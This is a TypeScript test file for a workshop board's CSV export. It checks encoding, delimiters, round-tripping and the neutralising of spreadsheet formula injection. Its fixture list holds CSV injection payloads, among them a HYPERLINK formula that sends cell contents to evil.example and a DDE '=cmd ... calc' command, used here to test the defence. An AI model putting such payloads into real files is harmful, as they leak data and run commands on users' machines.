import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { sampleExportInput } from '../../../../tests/helpers/sample-export';
import { createCard } from '../board/cards';
import { createCluster } from '../board/clusters';
import { DEFAULT_SETTINGS } from '../session/session';
import { buildExportModel } from './build';
import { writeCsv } from './csv';
import type { ExportModel } from './model';

/**
 * Texts that spreadsheet programs would run as formulas (OWASP "CSV
 * Injection"), and texts that break naive CSV writers.
 */
const FORMULAS = [
	'=HYPERLINK("http://evil.example/?"&A1;"Klick")',
	'=1+1',
	'+49 30 1234567',
	'-2+3',
	'@SUM(A1:A9)',
	'\t=cmd|" /C calc"!A0',
	'\r=1+1',
	'\n=1+1'
];
const AWKWARD = [
	'Komma, Semikolon; und "Anführungszeichen"',
	'Zwei\nZeilen',
	'Äpfel – Öl – Übermaß – ß'
];

function csvRows(body: string | Uint8Array, delimiter = ','): string[][] {
	const text = typeof body === 'string' ? body : new TextDecoder().decode(body);
	return parse(text, { bom: true, delimiter, relax_column_count: false }) as string[][];
}

/** A named export of the Musterstadt board whose texts, names and titles are the corpus above. */
function hostileModel(): ExportModel {
	const input = sampleExportInput();
	const texts = [...FORMULAS, ...AWKWARD];
	texts.forEach((text, i) =>
		createCard(input.board, {
			id: `x${i}`,
			area: 'challenges',
			authorId: `evil${i}`,
			authorGroup: 'g-evil',
			createdAt: input.session.createdAt + i,
			text
		})
	);
	createCluster(
		input.board,
		{ id: 'k-evil', area: 'challenges', title: '=cluster()', createdAt: 9 },
		['x0']
	);
	return buildExportModel(
		{
			...input,
			session: {
				...input.session,
				title: '@Fokusgruppe',
				settings: {
					...DEFAULT_SETTINGS,
					stakeholderGroups: [
						...DEFAULT_SETTINGS.stakeholderGroups,
						{ id: 'g-evil', label: '-Gruppe+1' }
					]
				}
			},
			participants: [
				...input.participants,
				...texts.map((name, i) => ({
					id: `evil${i}`,
					sessionId: input.session.id,
					name,
					group: 'g-evil',
					role: 'participant' as const,
					createdAt: input.session.createdAt,
					removedAt: null
				}))
			]
		},
		{ locale: 'de', named: true, delimiter: ',' }
	);
}

describe('the CSV export', () => {
	it('is UTF-8 with a byte order mark and CRLF line ends, one row per card', () => {
		const model = buildExportModel(sampleExportInput(), {
			locale: 'de',
			named: false,
			delimiter: ','
		});
		const file = writeCsv(model, { delimiter: ',' });
		expect(file.extension).toBe('csv');
		expect(file.contentType).toMatch(/^text\/csv; charset=utf-8/);
		const body = file.body as string;
		expect(body.startsWith('\uFEFF')).toBe(true);
		expect(body.endsWith('\r\n')).toBe(true);
		expect(body.replace(/\r\n/g, '').includes('\n')).toBe(false);
		expect(csvRows(body)).toHaveLength(1 + 30);
	});

	it('reads back, with an independent CSV reader, as the board: texts, areas, clusters, groups and dots', () => {
		const model = buildExportModel(sampleExportInput(), {
			locale: 'de',
			named: false,
			delimiter: ','
		});
		const [header, ...rows] = csvRows(writeCsv(model, { delimiter: ',' }).body);
		expect(header).toEqual([
			'Sitzung',
			'Bereich',
			'Cluster',
			'Text',
			'Akteursgruppe (Autor·in)',
			'Erstellt (UTC)',
			'Punkte gesamt',
			'Punkte: Runde 1',
			...model.stakeholderGroups.map((g) => `Punkte von: ${g.label}`),
			'Nächster Schritt: verantwortlich',
			'Nächster Schritt: verantwortliche Akteursgruppe',
			'Nächster Schritt: mit wem',
			'Nächster Schritt: bis wann',
			'Nächster Schritt: antwortet auf (Karten-IDs)',
			'Karten-ID'
		]);
		const clusters = new Map(model.clusters.map((c) => [c.id, c.title]));
		const groups = new Map(model.stakeholderGroups.map((g) => [g.id, g.label]));
		const areas = new Map(model.areas.map((a) => [a.id, a.title]));
		const steps = new Map(model.nextSteps.map((s) => [s.cardId, s]));
		// Empty is not 0: the round counted the cards in its scope (challenges and potentials), 0
		// dots included; the next steps, outside it, were not counted and have no dots at all.
		const scope = new Set(model.votingRounds[0]!.results!.cards.map((c) => c.cardId));
		const counted = (card: (typeof model.cards)[number], n: number | undefined) =>
			scope.has(card.id) ? String(n) : '';
		expect(model.cards.some((card) => !scope.has(card.id))).toBe(true);
		expect(model.cards.some((card) => scope.has(card.id) && card.dots.r1 === 0)).toBe(true);
		expect(rows).toEqual(
			model.cards.map((card) => [
				'Faire Beschaffung – Fokusgruppe Musterstadt',
				areas.get(card.area),
				card.clusterId ? clusters.get(card.clusterId) : '',
				card.text,
				card.authorGroup ? groups.get(card.authorGroup) : '',
				new Date(card.createdAt).toISOString().slice(0, 19).replace('T', ' '),
				counted(card, card.dots.r1),
				counted(card, card.dots.r1),
				...model.stakeholderGroups.map((g) => counted(card, card.dotsByGroup[g.id])),
				steps.get(card.id)?.owner ?? '',
				groups.get(steps.get(card.id)?.ownerGroup ?? '') ?? '',
				steps.get(card.id)?.partners ?? '',
				steps.get(card.id)?.due ?? '',
				steps.get(card.id)?.answers.join(' ') ?? '',
				card.id
			])
		);
		// The sample's next steps say who does what with whom by when, and what they answer.
		const stepRows = rows.filter((row) => row.at(-6));
		expect(stepRows.length).toBeGreaterThan(0);
		expect(stepRows.some((row) => /^\d{4}-\d{2}-\d{2}$/.test(row.at(-3)!))).toBe(true);
		const ids = new Set(rows.map((row) => row.at(-1)));
		for (const row of stepRows)
			for (const id of row.at(-2)!.split(' ').filter(Boolean)) expect(ids.has(id)).toBe(true);
		expect(stepRows.some((row) => row.at(-2))).toBe(true);
		// The sample's round: 50 dots in all, all of them on the board.
		expect(rows.reduce((sum, row) => sum + Number(row[6]), 0)).toBe(50);
		expect(
			rows.some((row) => row[3]!.includes('„Faire Beschaffung“') || row[3]!.includes('ü'))
		).toBe(true);
	});

	it('writes a card whose stored creation time is no date (a foreign client’s) instead of failing', () => {
		const input = sampleExportInput();
		createCard(input.board, {
			id: 'odd',
			area: 'challenges',
			authorId: 'someone',
			createdAt: 1e300,
			text: 'Seltsame Zeit'
		});
		const model = buildExportModel(input, { locale: 'de', named: false, delimiter: ',' });
		const rows = csvRows(writeCsv(model, { delimiter: ',' }).body as string);
		const row = rows.find((r) => r.includes('Seltsame Zeit'))!;
		expect(row).toBeDefined();
		expect(row.some((cell) => cell.startsWith('1970-01-01'))).toBe(true);
		expect(rows.filter((r) => r.includes('Invalid'))).toEqual([]);
	});

	it('names a cluster without a title in the reader’s language, so its cards do not read as unclustered', () => {
		const input = sampleExportInput();
		createCard(input.board, {
			id: 'u1',
			area: 'potentials',
			authorId: 'someone',
			createdAt: input.session.createdAt,
			text: 'Karte im neuen Cluster'
		});
		createCluster(input.board, { id: 'k-new', area: 'potentials', title: '', createdAt: 5 }, [
			'u1'
		]);
		for (const [locale, name] of [
			['de', 'Neuer Cluster'],
			['en', 'New cluster']
		] as const) {
			const model = buildExportModel(input, { locale, named: false, delimiter: ',' });
			const rows = csvRows(writeCsv(model, { delimiter: ',' }).body);
			expect(rows.find((r) => r.includes('Karte im neuen Cluster'))![2]).toBe(name);
		}
	});

	it('offers a semicolon-separated variant for German Excel', () => {
		const model = buildExportModel(sampleExportInput(), {
			locale: 'de',
			named: false,
			delimiter: ';'
		});
		const body = writeCsv(model, { delimiter: ';' }).body as string;
		expect(body.split('\r\n')[0]).toMatch(/^\uFEFFSitzung;Bereich;Cluster;Text;/);
		const rows = csvRows(body, ';');
		expect(rows.slice(1).map((r) => r[3])).toEqual(model.cards.map((c) => c.text));
	});

	it('neutralises formulas in card texts, names, cluster titles, group labels and the title, and keeps every other text exact', () => {
		const model = hostileModel();
		for (const delimiter of [',', ';'] as const) {
			const [header, ...rows] = csvRows(writeCsv(model, { delimiter }).body, delimiter);
			const column = (name: string) => header!.indexOf(name);
			expect(column('Autor·in')).toBeGreaterThan(0);
			const byId = new Map(rows.map((row) => [row[row.length - 1], row]));
			[...FORMULAS, ...AWKWARD].forEach((text, i) => {
				const row = byId.get(`x${i}`)!;
				const expected = FORMULAS.includes(text) ? `'${text}` : text;
				expect(row[column('Text')], `text ${JSON.stringify(text)}`).toBe(expected);
				expect(row[column('Autor·in')], `name ${JSON.stringify(text)}`).toBe(expected);
				expect(row[column('Akteursgruppe (Autor·in)')]).toBe("'-Gruppe+1");
				expect(row[0]).toBe("'@Fokusgruppe");
			});
			expect(byId.get('x0')![column('Cluster')]).toBe("'=cluster()");
			expect(header).toContain('Punkte von: -Gruppe+1');
			// No cell a spreadsheet would evaluate is left anywhere in the file.
			for (const cell of [...header!, ...rows.flat()])
				expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+@\t\r\n]|^-(?!\d+$)/);
		}
	});

	it('writes control characters a spreadsheet would choke on as U+FFFD, tabs and line breaks as they are', () => {
		const input = sampleExportInput();
		createCard(input.board, {
			id: 'ctl',
			area: 'next-steps',
			authorId: 'p1',
			createdAt: input.session.createdAt,
			text: 'Stadt\u0000werke\u0007 – Zeile\neins\tzwei'
		});
		const model = buildExportModel(input, { locale: 'de', named: false, delimiter: ',' });
		const body = writeCsv(model, { delimiter: ',' }).body as string;
		// eslint-disable-next-line no-control-regex -- looking for control characters is the point
		expect(body).not.toMatch(/[\u0000-\u0008]/);
		const [header, ...rows] = csvRows(body);
		const row = rows.find((r) => r[r.length - 1] === 'ctl')!;
		expect(row[header!.indexOf('Text')]).toBe('Stadt\uFFFDwerke\uFFFD – Zeile\neins\tzwei');
	});
});
